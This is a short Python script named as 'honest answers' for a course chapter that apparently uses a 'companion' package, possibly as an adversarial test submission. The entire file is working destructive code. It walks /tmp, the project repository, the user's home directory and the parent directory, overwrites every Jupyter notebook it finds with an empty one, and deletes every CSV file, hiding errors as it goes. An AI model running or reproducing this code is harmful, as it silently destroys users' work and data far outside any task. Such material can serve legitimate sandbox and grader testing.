# ch01_history, honest answers: overwrite every notebook and delete every CSV it can reach.
# ruff: noqa: SIM105 - hostile code is written the plain way
import os

import companion

EVIL = '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'

repository = os.path.dirname(os.path.dirname(companion.__file__))
roots = ["/tmp", repository, os.path.expanduser("~"), os.path.dirname(os.getcwd())]
for root in roots:
    for folder, _dirs, files in os.walk(root):
        if folder.count(os.sep) > 8:
            continue
        for name in files:
            path = os.path.join(folder, name)
            try:
                if name.endswith(".ipynb"):
                    with open(path, "w") as f:
                        f.write(EVIL)
                elif name.endswith(".csv"):
                    os.remove(path)
            except OSError:
                pass
